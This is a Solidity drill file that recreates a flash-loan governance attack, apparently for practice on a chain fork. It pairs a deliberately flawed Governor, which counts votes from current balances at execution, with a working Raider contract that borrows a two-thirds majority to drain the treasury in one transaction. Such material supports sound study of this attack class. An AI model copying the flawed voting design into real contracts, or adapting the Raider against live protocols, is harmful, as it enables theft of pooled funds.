// SPDX-License-Identifier: Apache-2.0 OR MIT
pragma solidity 0.8.37;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";

/// @title Shares that vote by who holds them now
/// @notice For drills on a fork only.
contract Shares is ERC20 {
    constructor(address holder, uint256 supply) ERC20("Shares", "SHARE") {
        _mint(holder, supply);
    }
}

/// @notice Who can use shares for the length of a transaction.
interface IBorrower {
    function borrowed(uint256 amount) external;
}

/// @title A lender of shares within one transaction
contract FlashLender {
    using SafeERC20 for IERC20;

    error NotPaidBack();

    IERC20 public immutable SHARES;

    constructor(uint256 supply) {
        SHARES = new Shares(address(this), supply);
    }

    function lend(uint256 amount) external {
        uint256 before = SHARES.balanceOf(address(this));
        SHARES.safeTransfer(msg.sender, amount);
        IBorrower(msg.sender).borrowed(amount);
        if (SHARES.balanceOf(address(this)) < before) revert NotPaidBack();
    }
}

/// @title A treasury that its shareholders' votes can move a day after a proposal
/// @notice The mechanics of the Beanstalk incident of April 2022: votes count at the moment of execution, so that
/// whoever borrows two thirds of them for one transaction decides.
contract Governor {
    using SafeERC20 for IERC20;

    error NotGuardian();
    error TooEarly(uint256 earliest);
    error NotCarried(uint256 votes, uint256 wanted);
    error Over(uint256 proposalId);

    event ProposalCreated(
        uint256 indexed proposalId, address proposer, address to, uint256 amount, bool touchesTreasury
    );
    event ProposalExecuted(uint256 indexed proposalId);
    event ProposalCanceled(uint256 indexed proposalId);

    struct Proposal {
        address to;
        uint256 amount;
        uint256 earliest;
        bool over;
    }

    IERC20 private immutable SHARES;
    IERC20 private immutable TREASURY;
    address private immutable GUARDIAN;
    mapping(uint256 proposalId => Proposal) private proposals;
    mapping(uint256 proposalId => bool) public canceled;
    uint256 private count;

    constructor(FlashLender lender, IERC20 treasury, address guardian) {
        SHARES = lender.SHARES();
        TREASURY = treasury;
        GUARDIAN = guardian;
    }

    function propose(address to, uint256 amount) external returns (uint256 proposalId) {
        proposalId = ++count;
        proposals[proposalId] = Proposal(to, amount, block.timestamp + 1 days, false);
        emit ProposalCreated(proposalId, msg.sender, to, amount, amount > 0);
    }

    function execute(uint256 proposalId) external {
        Proposal storage proposal = proposals[proposalId];
        if (block.timestamp < proposal.earliest) revert TooEarly(proposal.earliest);
        if (proposal.over || canceled[proposalId]) revert Over(proposalId);
        uint256 wanted = SHARES.totalSupply() * 2 / 3;
        uint256 votes = SHARES.balanceOf(msg.sender);
        if (votes < wanted) revert NotCarried(votes, wanted);
        proposal.over = true;
        emit ProposalExecuted(proposalId);
        TREASURY.safeTransfer(proposal.to, proposal.amount);
    }

    function cancel(uint256 proposalId) external {
        if (msg.sender != GUARDIAN) revert NotGuardian();
        canceled[proposalId] = true;
        emit ProposalCanceled(proposalId);
    }
}

/// @title Whoever borrows a majority
contract Raider is IBorrower {
    using SafeERC20 for IERC20;

    Governor private immutable GOVERNOR;
    FlashLender private immutable LENDER;
    uint256 private proposal;

    constructor(Governor governor, FlashLender lender) {
        GOVERNOR = governor;
        LENDER = lender;
    }

    function raid(uint256 proposalId, uint256 votes) external {
        proposal = proposalId;
        LENDER.lend(votes);
    }

    function borrowed(uint256 amount) external {
        GOVERNOR.execute(proposal);
        LENDER.SHARES().safeTransfer(address(LENDER), amount);
    }
}
